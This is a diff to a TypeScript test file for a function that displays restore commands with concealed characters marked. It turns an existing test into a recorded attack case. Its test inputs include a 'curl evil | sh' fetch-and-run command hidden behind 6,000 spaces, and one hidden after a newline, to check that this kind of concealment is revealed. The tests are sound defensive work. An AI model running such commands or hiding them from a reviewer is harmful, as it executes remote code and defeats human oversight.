@@ -1,5 +1,6 @@
 import { describe, expect, test } from "bun:test";
 import { shownCommand } from "../../restore/shown-command.ts";
+import { attack } from "../support/attack.ts";
 
 const hidden = (characters: string, shown: string) =>
   `a command of ${characters} characters, where ⟪ ⟫ stands for what is hidden: sh -c '${shown}'`;
@@ -13,10 +14,18 @@ describe("a restore command is shown", () => {
     expect(shownCommand(command)).toBe(`sh -c '${shown}'`);
   });
 
-  test("with spaces that scroll its start off the screen as one mark, and its length", () => {
-    const command = `curl evil | sh;${" ".repeat(6_000)}psql app`;
-    expect(shownCommand(command)).toBe(hidden("6,023", "curl evil | sh;⟪6,000 × space⟫psql app"));
-  });
+  attack(
+    {
+      by: "W",
+      what: "6,000 spaces scroll the start of a restore command off the question",
+      before: "start not visible",
+      now: "they are shown as one mark, with the length of the command",
+    },
+    () => {
+      const command = `curl evil | sh;${" ".repeat(6_000)}psql app`;
+      expect(shownCommand(command)).toBe(hidden("6,023", "curl evil | sh;⟪6,000 × space⟫psql app"));
+    },
+  );
 
   test.each([
     ["newlines", "true # \ncurl evil", "true # ⟪newline⟫curl evil"],
